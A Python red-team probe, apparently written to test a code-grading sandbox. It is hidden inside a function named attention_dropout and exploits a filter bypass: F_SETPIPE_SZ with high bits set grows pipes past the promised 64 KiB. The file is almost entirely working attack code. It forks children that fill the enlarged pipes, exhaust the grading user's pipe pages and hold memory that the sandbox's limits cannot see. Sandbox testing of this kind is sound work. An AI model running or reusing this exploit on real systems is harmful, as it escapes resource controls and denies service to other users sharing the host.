"""Red team 2 (per-user pipe pages, memory outside the caps): F_SETPIPE_SZ with the command's upper 32 bits
set (`1031 | 1 << 32`): the filter compares the 64-bit value and lets it through, the kernel reads an
unsigned int and grows the pipe to 1 MiB (pipe-max-size), 16 times the 64 KiB the sandbox promises.
Within the keeper's budget of 64 pipes that is 64 MiB of pipe buffers, the whole of the grading user's
fs.pipe-user-pages-soft (16384 pages) where the sandbox runs under that uid, and memory that neither
RLIMIT_AS nor a resident-memory watchdog sees. Children fill them, report, hold; the parent then opens a
fresh pipe and reports its size (2 pages once the user's allowance is gone).

base: buggy
class: k
run: pressure
"""

import ctypes as _ctypes
import os as _os
import select as _select
import time as _time

_DEADLINE = [0.0]
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long


def _grow(fd):
    return _libc.syscall(_ctypes.c_long(72), _ctypes.c_long(fd), _ctypes.c_long(1031 | 1 << 32),
                         _ctypes.c_long(1 << 20))


def _child(write_end, pipes_each):
    held, grown = 0, 0
    kept = []
    try:
        for _ in range(pipes_each):
            if _time.monotonic() > _DEADLINE[0] - 0.5:
                break
            read_fd, write_fd = _os.pipe()
            kept.append((read_fd, write_fd))
            if _grow(write_fd) > 65536:
                grown += 1
            _os.set_blocking(write_fd, False)
            try:
                while True:
                    held += _os.write(write_fd, b"\1" * 65536)
            except BlockingIOError:
                pass
    except OSError:
        pass
    finally:
        _os.write(write_end, f"{held} {grown}\n".encode())
        _os.close(write_end)
    _time.sleep(60)


def _collect(read_end, deadline):
    text = b""
    while (left := deadline - _time.monotonic()) > 0:
        if not _select.select([read_end], [], [], left)[0]:
            break
        chunk = _os.read(read_end, 4096)
        if not chunk:
            break
        text += chunk
    _os.close(read_end)
    return text


def attention_dropout(*args, **kwargs):
    _DEADLINE[0] = _time.monotonic() + 3.0
    read_end, write_end = _os.pipe()
    for _ in range(8):
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                _os.close(read_end)
                _child(write_end, 7)
            finally:
                _os._exit(0)
    _os.close(write_end)
    numbers = [int(word) for word in _collect(read_end, _DEADLINE[0]).split()]
    held, grown = sum(numbers[0::2]), sum(numbers[1::2])
    try:
        fresh = _os.pipe()
        size = _libc.syscall(_ctypes.c_long(72), _ctypes.c_long(fresh[1]), _ctypes.c_long(1032), _ctypes.c_long(0))
    except OSError as error:
        size = f"none ({error})"
    # ALLOWANCE kernel: 1 when any pipe grew past the 64 KiB the sandbox promises (F_SETPIPE_SZ refused)
    raise RuntimeError(f"RTEAM2 r_fcntl_high_pipes ran: ALLOWANCE memory {held >> 20} MiB in {grown} pipes grown "
                       f"past 64 KiB; ALLOWANCE kernel {int(grown > 0)}; a fresh pipe now holds {size} bytes")
